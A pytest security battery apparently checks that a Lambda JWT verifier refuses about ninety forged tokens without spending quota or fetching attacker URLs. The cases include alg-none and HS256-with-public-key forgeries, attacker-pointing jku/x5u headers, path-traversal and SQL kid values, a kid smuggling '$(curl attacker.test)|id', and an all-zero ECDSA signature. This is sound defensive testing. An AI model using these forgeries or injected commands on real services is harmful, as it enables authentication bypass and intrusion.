"""Battery 1: JWT attacks, each through the real handler.

Every case asserts the refusal (401 with a problem document and `WWW-Authenticate: Bearer
error="invalid_token"`), that OpenAI was never called, that no quota was spent, and that no
URL the token names was ever fetched.
"""

from __future__ import annotations

import time
from collections.abc import Callable
from typing import Any

import httpx
import pytest
from cryptography.hazmat.primitives import hashes

from devstack.lambda_events import http_event
from tests.conftest import ORIGIN, Aws, Reply, invoke
from tests.fakes import AUDIENCE, ISSUER, JWKS_URL, FakeInternet, Issuer, SigningKey, b64url
from tests.security import forge

ATTACKER_URL = "https://attacker.test/keys.json"
Case = Callable[[Issuer], dict[str, str | None]]


def bearer(token: str) -> dict[str, str | None]:
    return {"authorization": f"Bearer {token}"}


def signed(header: dict[str, Any] | None = None, **claim_overrides: Any) -> Case:
    """A token signed by the issuer's real key, with a header or claims changed."""

    def build(issuer: Issuer) -> dict[str, str | None]:
        key = issuer.keys[0]
        head = {"alg": "RS256", "kid": key.kid} | (header or {})
        head = {k: v for k, v in head.items() if v is not ...}
        return bearer(forge.rs256(key, head, forge.claims(**claim_overrides)))

    return build


def header_only(value: str | None) -> Case:
    return lambda issuer: {"authorization": value}


def real(issuer: Issuer) -> str:
    return issuer.token("mallory")


def with_segments(change: Callable[[list[str], Issuer], str]) -> Case:
    return lambda issuer: bearer(change(real(issuer).split("."), issuer))


def alg_none(name: str, keep_signature: bool = False) -> Case:
    def build(issuer: Issuer) -> dict[str, str | None]:
        sig = real(issuer).split(".")[2]
        header = {"alg": name, "typ": "JWT", "kid": issuer.keys[0].kid}
        return bearer(forge.unsigned(header, forge.claims(), sig if keep_signature else ""))

    return build


def hs_with_public_key(encoding: str) -> Case:
    def build(issuer: Issuer) -> dict[str, str | None]:
        secret = forge.public_key_encodings(issuer.keys[0])[encoding]
        return bearer(
            forge.hs256(secret, {"alg": "HS256", "kid": issuer.keys[0].kid}, forge.claims())
        )

    return build


def attacker_key_with(header_name: str) -> Case:
    """Signed by the attacker's own key, pointing at it through a header."""

    def build(issuer: Issuer) -> dict[str, str | None]:
        attacker = SigningKey.rsa("attacker")
        value: Any = {
            "jku": ATTACKER_URL,
            "x5u": ATTACKER_URL,
            "jwk": attacker.jwk(),
            "x5c": ["MIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8AMIIBCgKCAQEA"],
        }[header_name]
        return bearer(
            forge.rs256(
                attacker, {"alg": "RS256", "kid": "attacker", header_name: value}, forge.claims()
            )
        )

    return build


def other_signature(segments: list[str], issuer: Issuer) -> str:
    donor = issuer.token("someone-else", scope="openid admin").split(".")[2]
    return f"{segments[0]}.{segments[1]}.{donor}"


def flip(segment: str) -> str:
    return segment[:-2] + ("A" if segment[-2] != "A" else "B") + segment[-1]


def nested(depth: int) -> Case:
    def build(issuer: Issuer) -> dict[str, str | None]:
        head = b64url(b'{"alg":"RS256","x":' + b"[" * depth + b"]" * depth + b"}")
        return bearer(f"{head}.{forge.segment(forge.claims())}.c2ln")

    return build


def rs256_on_ec_key(issuer: Issuer) -> dict[str, str | None]:
    ec_key = SigningKey.ec("ec-key")
    issuer.keys.append(ec_key)  # the key set holds an EC key; the header claims RS256 for it
    return bearer(forge.es256(ec_key, {"alg": "RS256", "kid": ec_key.kid}, forge.claims()))


def no_kid_among_several(issuer: Issuer) -> dict[str, str | None]:
    issuer.keys.append(SigningKey.rsa())
    return signed({"kid": ...})(issuer)


NOW = int(time.time())
CASES: dict[str, Case] = {
    # the Authorization header
    "no_authorization_header": header_only(None),
    "empty_authorization_header": header_only(""),
    "bearer_with_nothing": header_only("Bearer "),
    "basic_scheme": header_only("Basic bWFsbG9yeTpwYXNzd29yZA=="),
    "token_without_scheme": lambda i: {"authorization": real(i)},
    "two_tokens_comma": lambda i: {"authorization": f"Bearer {real(i)}, Bearer {real(i)}"},
    "two_tokens_space": lambda i: {"authorization": f"Bearer {real(i)} {real(i)}"},
    # structure
    "two_segments": with_segments(lambda s, i: f"{s[0]}.{s[1]}"),
    "four_segments": with_segments(lambda s, i: ".".join([*s, s[2]])),
    "jwe_five_segments": with_segments(lambda s, i: f"{s[0]}.{s[1]}.{s[2]}.{s[2]}.{s[2]}"),
    "json_serialization": lambda i: {"authorization": 'Bearer {"payload":"e30","signatures":[]}'},
    "non_base64url_characters": with_segments(
        lambda s, i: f"{s[0]}.{s[1].replace('-', '+')}+/.{s[2]}"
    ),
    "junk_padding": with_segments(lambda s, i: f"{s[0]}==.{s[1]}.{s[2]}"),
    "header_not_json": lambda i: bearer(
        f"{b64url(b'not json')}.{forge.segment(forge.claims())}.c2ln"
    ),
    "header_a_list": lambda i: bearer(
        f"{forge.segment(['RS256'])}.{forge.segment(forge.claims())}.c2ln"
    ),
    "payload_a_list": lambda i: bearer(
        forge.rs256(i.keys[0], {"alg": "RS256", "kid": i.keys[0].kid}, ["x"])
    ),
    "payload_a_string": lambda i: bearer(
        forge.rs256(i.keys[0], {"alg": "RS256", "kid": i.keys[0].kid}, "x")
    ),
    "deeply_nested_header": nested(3000),
    "token_over_8_kb": signed(padding="x" * 9000),
    # algorithm
    "alg_none": alg_none("none"),
    "alg_None": alg_none("None"),
    "alg_NONE": alg_none("NONE"),
    "alg_nOnE_with_signature": alg_none("nOnE", keep_signature=True),
    "alg_missing": signed({"alg": ...}),
    "alg_not_a_string": signed({"alg": ["RS256"]}),
    "alg_lower_case": signed({"alg": "rs256"}),
    "alg_with_a_space": signed({"alg": "RS256 "}),
    **{
        f"hs256_with_public_key_{enc}": hs_with_public_key(enc)
        for enc in ("pem_spki", "pem_pkcs1", "der", "jwk_json", "ssh")
    },
    "hs256_with_weak_secret": lambda i: bearer(
        forge.hs256(b"secret", {"alg": "HS256"}, forge.claims())
    ),
    "rs256_header_on_ec_key": rs256_on_ec_key,
    "ps256_when_rs256_pinned": lambda i: bearer(
        forge.ps256(i.keys[0], {"alg": "PS256", "kid": i.keys[0].kid}, forge.claims())
    ),
    "rs512_when_rs256_pinned": lambda i: bearer(
        forge.rs256(
            i.keys[0], {"alg": "RS512", "kid": i.keys[0].kid}, forge.claims(), hashes.SHA512()
        )
    ),
    # signature
    "signature_missing": with_segments(lambda s, i: f"{s[0]}.{s[1]}."),
    "signature_truncated": with_segments(lambda s, i: f"{s[0]}.{s[1]}.{s[2][:40]}"),
    "signature_altered": with_segments(lambda s, i: f"{s[0]}.{s[1]}.{flip(s[2])}"),
    "payload_altered": with_segments(
        lambda s, i: f"{s[0]}.{forge.segment(forge.claims(sub='admin'))}.{s[2]}"
    ),
    "signature_from_another_token": with_segments(other_signature),
    "signed_by_a_stranger": lambda i: bearer(
        forge.rs256(
            SigningKey.rsa(i.keys[0].kid), {"alg": "RS256", "kid": i.keys[0].kid}, forge.claims()
        )
    ),
    # kid
    "kid_a_number": signed({"kid": 7}),
    "kid_a_list": signed({"kid": ["a"]}),
    "kid_null": signed({"kid": None}),
    "kid_empty": signed({"kid": ""}),
    "kid_path_traversal": signed({"kid": "../../../../../../dev/null"}),
    "kid_sql": signed({"kid": "x' UNION SELECT 'secret' --"}),
    "kid_shell": signed({"kid": "$(curl attacker.test)|id"}),
    "kid_huge": signed({"kid": "k" * 4000}),
    "no_kid_among_several_keys": no_kid_among_several,
    # headers that would choose the key or change the reading
    "embedded_jku": attacker_key_with("jku"),
    "embedded_x5u": attacker_key_with("x5u"),
    "embedded_jwk": attacker_key_with("jwk"),
    "embedded_x5c": attacker_key_with("x5c"),
    "jku_on_a_real_signature": signed({"jku": ATTACKER_URL}),
    "crit_unknown": signed({"crit": ["exp"]}),
    "b64_false": signed({"b64": False, "crit": ["b64"]}),
    "typ_not_a_string": signed({"typ": 1}),
    # time claims
    "exp_missing": signed(exp=...),
    "exp_past": signed(exp=NOW - 3600, iat=NOW - 4000),
    "exp_string": signed(exp=str(NOW + 600)),
    "exp_bool": signed(exp=True),
    "exp_null": signed(exp=None),
    "exp_absurd": signed(exp=10**20),
    "exp_negative": signed(exp=-1),
    "exp_nan": lambda i: bearer(
        forge.rs256(
            i.keys[0],
            {"alg": "RS256", "kid": i.keys[0].kid},
            b'{"iss":"%s","sub":"m","aud":"%s","exp":NaN}' % (ISSUER.encode(), AUDIENCE.encode()),
        )
    ),
    "nbf_future": signed(nbf=NOW + 3600),
    "iat_future": signed(iat=NOW + 3600, exp=NOW + 4000),
    "iat_string": signed(iat=str(NOW)),
    "iat_bool": signed(iat=True),
    "iat_null": signed(iat=None),
    "nbf_string": signed(nbf=str(NOW - 60)),
    "nbf_absurd": signed(nbf=10**20),
    "exp_float_string": signed(exp=f"{NOW + 600}.0"),
    "lifetime_too_long": signed(iat=NOW, exp=NOW + 2 * 86400),
    # issuer
    "iss_wrong": signed(iss="https://evil.test/"),
    "iss_missing": signed(iss=...),
    "iss_not_a_string": signed(iss=[ISSUER]),
    "iss_prefix": signed(iss=ISSUER.rstrip("/")),
    "iss_suffix": signed(iss=ISSUER + "evil"),
    "iss_double_slash": signed(iss=ISSUER + "/"),
    "iss_other_case": signed(iss=ISSUER.upper()),
    # audience and token type
    "aud_wrong": signed(aud="another-app"),
    "aud_missing": signed(aud=...),
    "aud_list_without_ours": signed(aud=["a", "b"]),
    "aud_not_a_string": signed(aud=7),
    "cognito_client_id_of_another_client": signed(aud=..., client_id="another-client"),
    "id_token_where_access_required": signed(token_use="id"),
    # subject
    "sub_missing": signed(sub=...),
    "sub_empty": signed(sub=""),
    "sub_not_a_string": signed(sub=42),
    "sub_blank": signed(sub="   "),
    "sub_a_list": signed(sub=["alice"]),
}


@pytest.fixture
def strict(make_handler: Callable[..., Any]) -> Callable[..., dict[str, Any]]:
    return make_handler(AUTH_TOKEN_USE="access")


@pytest.mark.parametrize("case", CASES.values(), ids=CASES.keys())
def test_attack_is_refused_without_cost(
    case: Case, strict: Any, issuer: Issuer, internet: FakeInternet, aws: Aws
) -> None:
    extra = {"origin": ORIGIN, "content-type": "application/json"}
    headers = {k: v for k, v in (case(issuer) | extra).items() if v is not None}

    reply = invoke(
        strict, http_event(headers=headers, body="{}") | {"rawQueryString": "access_token=x"}
    )

    assert_invalid_token(reply)
    assert internet.openai_requests() == []
    assert aws.quota_items() == []
    assert not any("attacker" in str(r.url) for r in internet.requests)


def test_a_token_only_in_the_query_string_is_refused(
    strict: Any, issuer: Issuer, internet: FakeInternet
) -> None:
    event = http_event(headers={"origin": ORIGIN}) | {
        "rawQueryString": f"access_token={real(issuer)}",
        "queryStringParameters": {"access_token": real(issuer)},
    }

    assert_invalid_token(invoke(strict, event))
    assert internet.openai_requests() == []


def assert_invalid_token(reply: Reply) -> None:
    assert reply.status == 401, reply.body
    assert reply.header("content-type") == "application/problem+json"
    assert reply.json["type"].endswith(":invalid-token") and reply.json["status"] == 401
    assert 'error="invalid_token"' in reply.required_header("www-authenticate")
    assert "Traceback" not in reply.body


def test_the_control_case_passes(strict: Any, issuer: Issuer) -> None:
    """The forging helpers make a valid token when nothing is changed: the cases above fail
    for the change they make, not for a broken builder."""
    headers = signed()(issuer) | {"content-type": "application/json"}

    reply = invoke(strict, http_event(headers=headers, body="{}"))

    assert reply.status == 200


# --- the key set under attack -----------------------------------------------------------------


def test_a_flood_of_unknown_kids_costs_at_most_one_refetch(
    mint: Any, issuer: Issuer, internet: FakeInternet
) -> None:
    assert mint().status == 200
    for n in range(100):
        stranger = forge.rs256(
            SigningKey.rsa(f"random-{n}") if n < 3 else issuer.keys[0],
            {"alg": "RS256", "kid": f"random-{n}"},
            forge.claims(),
        )
        assert mint(token=stranger).status == 401
        if n % 20 == 0:
            assert mint(token=issuer.token(f"user-{n}")).status == 200  # valid tokens keep passing

    assert len(internet.issuer_requests()) <= 2  # the first fetch, and one refetch per cooldown


def test_a_rotated_key_works_on_first_use(
    make_handler: Any, issuer: Issuer, internet: FakeInternet
) -> None:
    handler = make_handler()
    invoke(handler, http_event(headers=bearer(issuer.token())))
    new_key = SigningKey.rsa("rotated")
    issuer.keys.insert(0, new_key)

    reply = invoke(handler, http_event(headers=bearer(issuer.token(key=new_key))))

    assert reply.status == 200 and len(internet.issuer_requests()) == 2


def test_jwks_down_with_cached_keys_keeps_verifying(mint: Any, internet: FakeInternet) -> None:
    assert mint().status == 200
    internet.jwks_down = True

    assert mint().status == 200


def test_jwks_down_without_cached_keys_is_503_not_401(
    mint: Any, internet: FakeInternet, aws: Aws
) -> None:
    internet.jwks_down = True

    reply = mint()

    assert reply.status == 503 and int(reply.header("retry-after")) >= 1
    assert reply.header("www-authenticate") is None and aws.quota_items() == []


def test_a_valid_token_without_the_required_scope_is_403(
    make_handler: Any, issuer: Issuer, aws: Aws
) -> None:
    handler = make_handler(AUTH_REQUIRED_SCOPES="realtime:mint")

    reply = invoke(handler, http_event(headers=bearer(issuer.token(scope="openid"))))

    assert reply.status == 403 and 'error="insufficient_scope"' in reply.required_header(
        "www-authenticate"
    )
    assert aws.quota_items() == []


def test_a_failed_refetch_keeps_the_cached_keys(
    mint: Any, issuer: Issuer, internet: FakeInternet
) -> None:
    assert mint().status == 200
    internet.jwks_down = True
    stranger = SigningKey.rsa("new-kid")

    refused = mint(token=forge.rs256(stranger, {"alg": "RS256", "kid": "new-kid"}, forge.claims()))

    assert refused.status in (401, 503) and len(internet.issuer_requests()) == 2  # it tried
    assert mint().status == 200  # and still verifies with what it had


def test_a_key_declared_for_rs256_does_not_verify_ps256(
    make_handler: Any, issuer: Issuer, internet: FakeInternet, aws: Aws
) -> None:
    """Both algorithms are configured, but the key set says this key is for RS256 only
    (RFC 8725 3.1: one key, one algorithm)."""
    handler = make_handler(AUTH_ALGORITHMS="RS256,PS256")
    key = issuer.keys[0]
    assert key.jwk()["alg"] == "RS256"

    reply = invoke(
        handler,
        http_event(
            headers=bearer(forge.ps256(key, {"alg": "PS256", "kid": key.kid}, forge.claims()))
        ),
    )

    assert_invalid_token(reply)
    assert internet.openai_requests() == [] and aws.quota_items() == []
    assert invoke(handler, http_event(headers=bearer(issuer.token()))).status == 200  # control


def test_one_malformed_key_in_the_set_does_not_take_the_others_down(
    mint: Any, issuer: Issuer
) -> None:
    published = issuer.jwks
    odd = [
        {"kty": "RSA", "kid": "odd-modulus", "n": "!!", "e": "AQAB"},
        {"kty": "EC", "kid": "odd-type", "alg": "RS256", "crv": "P-256", "x": "AA", "y": "AA"},
        {"kty": "RSA", "kid": "odd-fields", "n": 5},
    ]
    issuer.jwks = lambda: {"keys": [*odd, *published()["keys"]]}  # type: ignore[method-assign]

    assert mint().status == 200


def answer_key_set_with(internet: FakeInternet, respond: Callable[[httpx.Request], Any]) -> None:
    real = internet.handle

    def handle(request: httpx.Request) -> httpx.Response:
        if str(request.url) == JWKS_URL:
            internet.requests.append(request)
            return respond(request)
        return real(request)

    internet.handle = handle  # type: ignore[method-assign]


def _timeout(request: httpx.Request) -> httpx.Response:
    raise httpx.ReadTimeout("key set too slow", request=request)


BROKEN_KEY_SETS: dict[str, Callable[[httpx.Request], Any]] = {
    "server_error": lambda r: httpx.Response(500),
    "redirect_to_attacker": lambda r: httpx.Response(302, headers={"location": ATTACKER_URL}),
    "not_json": lambda r: httpx.Response(200, content=b"<html>maintenance</html>"),
    "not_an_object": lambda r: httpx.Response(200, json=[1, 2]),
    "deeply_nested": lambda r: httpx.Response(
        200, content=b'{"keys":' + b"[" * 20_000 + b"]" * 20_000 + b"}"
    ),
    "oversized": lambda r: httpx.Response(200, content=b'{"keys":[' + b" " * 70_000 + b"]}"),
    "only_a_symmetric_key": lambda r: httpx.Response(
        200, json={"keys": [{"kty": "oct", "kid": "k", "k": b64url(b"secret")}]}
    ),
    "timeout": _timeout,
}


@pytest.mark.parametrize("respond", BROKEN_KEY_SETS.values(), ids=BROKEN_KEY_SETS.keys())
def test_a_broken_key_set_is_503_never_401_or_500(
    respond: Any, mint: Any, internet: FakeInternet, aws: Aws
) -> None:
    answer_key_set_with(internet, respond)

    reply = mint()

    assert reply.status == 503, reply.body
    assert reply.header("content-type") == "application/problem+json"
    assert reply.json["type"].endswith(":dependency-unavailable")
    assert int(reply.header("retry-after")) >= 1 and reply.header("www-authenticate") is None
    assert internet.openai_requests() == [] and aws.quota_items() == []
    assert not any("attacker" in str(r.url) for r in internet.requests)  # no redirect followed


def test_a_key_published_for_encryption_does_not_verify(
    mint: Any, issuer: Issuer, internet: FakeInternet
) -> None:
    encryption_key = SigningKey.rsa("enc-key")
    issuer.keys.append(encryption_key)
    published = issuer.jwks
    issuer.jwks = lambda: {  # type: ignore[method-assign]
        "keys": [k | {"use": "enc"} if k["kid"] == "enc-key" else k for k in published()["keys"]]
    }

    assert_invalid_token(mint(token=issuer.token(key=encryption_key)))
    assert internet.openai_requests() == []
    assert mint().status == 200  # control: the signing key beside it still verifies


def test_an_all_zero_ecdsa_signature_is_refused(
    make_handler: Any, issuer: Issuer, internet: FakeInternet, aws: Aws
) -> None:
    """The "psychic signature" (r = s = 0) that some ECDSA verifiers once accepted."""
    issuer.keys[:] = [SigningKey.ec("ec-key")]
    handler = make_handler(AUTH_ALGORITHMS="ES256")
    header = {"alg": "ES256", "kid": "ec-key"}

    reply = invoke(
        handler,
        http_event(headers=bearer(forge.unsigned(header, forge.claims(), b64url(bytes(64))))),
    )

    assert_invalid_token(reply)
    assert internet.openai_requests() == [] and aws.quota_items() == []
    assert invoke(handler, http_event(headers=bearer(issuer.token()))).status == 200  # control
